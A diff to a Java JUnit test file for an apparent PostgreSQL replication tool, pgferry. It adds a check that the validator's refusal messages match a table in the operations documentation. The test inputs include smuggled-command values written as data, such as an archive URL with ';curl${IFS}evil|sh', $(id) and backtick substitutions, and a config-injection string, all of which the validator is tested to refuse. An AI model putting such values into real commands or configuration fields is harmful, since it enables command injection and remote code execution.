@@ -8,8 +8,15 @@ import io.pgferry.proto.Goal;
 import io.pgferry.proto.HbaRule;
 import io.pgferry.proto.NodeState;
 import io.pgferry.proto.Upstream;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
 import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.function.UnaryOperator;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -17,6 +24,30 @@ import org.junit.jupiter.params.provider.ValueSource;
 /** Each thing a goal may not carry is refused with a sentence naming it; what pgferry sends passes. */
 class GoalValidatorTest {
   private static final GoalValidator PG15 = new GoalValidator(GoalLimits.STRICT, 15);
+
+  /** Whole messages the tests saw for the rows of docs/operations.md's table of refused goals. */
+  private static final List<String> SEEN = new CopyOnWriteArrayList<>();
+
+  /** Each message seen is in the table word for word, and each message the table shows was seen. */
+  @AfterAll
+  static void theRefusedGoalTableInTheDocsShowsWhatTheAgentReports() throws Exception {
+    String doc = Files.readString(Path.of("../docs/operations.md"));
+    String table = doc.substring(doc.indexOf("| goal carries | reported in last_error |"));
+    table = table.substring(0, table.indexOf("\n#"));
+    for (String m : SEEN) {
+      assertTrue(table.contains("`" + m + "`"), "docs/operations.md, refused goals: no `" + m + "`");
+    }
+    List<String> shown = new ArrayList<>();
+    for (String row : table.lines().skip(2).toList()) {
+      Matcher m = Pattern.compile("`([^`]+)`").matcher(row.substring(row.indexOf(" | ") + 3));
+      while (m.find()) {
+        shown.add(m.group(1));
+      }
+    }
+    for (String m : shown) {
+      assertTrue(SEEN.contains(m), "docs/operations.md, refused goals: no test sees `" + m + "`");
+    }
+  }
 
   private static HbaRule.Builder rule() {
     return HbaRule.newBuilder().setType("host").setDatabase("replication").setUser("replicator")
@@ -95,6 +126,9 @@ class GoalValidatorTest {
     Goal g = Goal.newBuilder().setState(NodeState.PRIMARY).putSettings(key, "x").build();
     String p = onlyProblem(PG15, g);
     assertTrue(p.contains("'" + key + "' is not a setting a goal may carry"), p);
+    if (key.equals("archive_command")) {
+      SEEN.add(p);
+    }
   }
 
   @ParameterizedTest
@@ -106,12 +140,15 @@ class GoalValidatorTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"pgferry_b'\ninclude '/tmp/evil", "a\"b", "a\\b", "a\0b", "line\rbreak"})
+  @ValueSource(strings = {"pgferry_b'\ninclude '/tmp/evil", "a\nb", "a\"b", "a\\b", "a\0b", "line\rbreak"})
   void settingValuesWithQuotesNewlinesBackslashOrNulAreRefused(String value) {
     Goal g = Goal.newBuilder().setState(NodeState.PRIMARY).putSettings("synchronous_standby_names", value).build();
     String p = onlyProblem(PG15, g);
     assertTrue(p.startsWith("settings.synchronous_standby_names: the value"), p);
     assertTrue(!p.contains("\n") && !p.contains("\0"), "the message stays one printable line: " + p);
+    if (value.equals("a\nb")) {
+      SEEN.add(p);
+    }
   }
 
   @Test
@@ -120,6 +157,7 @@ class GoalValidatorTest {
     assertEquals(2, p.size(), p.toString());
     assertTrue(p.get(0).contains("'0.0.0.0/0' admits every address"), p.get(0));
     assertTrue(p.get(1).contains("method trust"), p.get(1));
+    SEEN.addAll(p);
   }
 
   @ParameterizedTest
@@ -141,6 +179,9 @@ class GoalValidatorTest {
   void addressesWiderThanTheLimitAreRefusedUnlessAllowed(String cidr) {
     String p = onlyProblem(PG15, primaryWith(r -> r.setAddress(cidr)));
     assertTrue(p.contains("'" + cidr + "' is wider than /"), p);
+    if (cidr.equals("10.0.0.0/8")) {
+      SEEN.add(p);
+    }
     assertEquals(List.of(), new GoalValidator(new GoalLimits(true, false), 15).problems(primaryWith(r -> r.setAddress(cidr))));
   }
 
@@ -162,11 +203,16 @@ class GoalValidatorTest {
 
   @Test
   void typesAndNamesAreChecked() {
-    assertTrue(onlyProblem(PG15, primaryWith(r -> r.setType("local"))).contains("type 'local' is not host or hostssl"));
+    String local = onlyProblem(PG15, primaryWith(r -> r.setType("local")));
+    assertTrue(local.contains("type 'local' is not host or hostssl"), local);
+    SEEN.add(local);
     assertTrue(onlyProblem(PG15, primaryWith(r -> r.setType("hostnossl"))).contains("type 'hostnossl'"));
     for (String name : List.of("\"all\"", "app db", "a,b", "@users", "+admins", "x\ny", "")) {
       String p = onlyProblem(PG15, primaryWith(r -> r.setUser(name)));
       assertTrue(p.startsWith("hba_rules[0].user '") && p.contains("is not a plain name"), p);
+      if (name.equals("\"all\"")) {
+        SEEN.add(p);
+      }
       String d = onlyProblem(PG15, primaryWith(r -> r.setDatabase(name)));
       assertTrue(d.startsWith("hba_rules[0].database '"), d);
     }
@@ -177,6 +223,9 @@ class GoalValidatorTest {
     for (String url : List.of("s3://bucket/prefix;curl${IFS}evil|sh", "file:///tmp/a b", "s3://bucket/x`id`", "s3://bucket/$(id)")) {
       String p = onlyProblem(PG15, Goal.newBuilder().setState(NodeState.ARCHIVE_REPLICA).setArchiveUrl(url).build());
       assertTrue(p.startsWith("archive_url '") && p.contains("restore_command"), p);
+      if (url.endsWith("$(id)")) {
+        SEEN.add(p);
+      }
     }
     String p = onlyProblem(PG15, Goal.newBuilder().setState(NodeState.ARCHIVE_REPLICA).setArchiveUrl("http://evil/x").build());
     assertTrue(p.contains("scheme 'http' is not supported"), p);
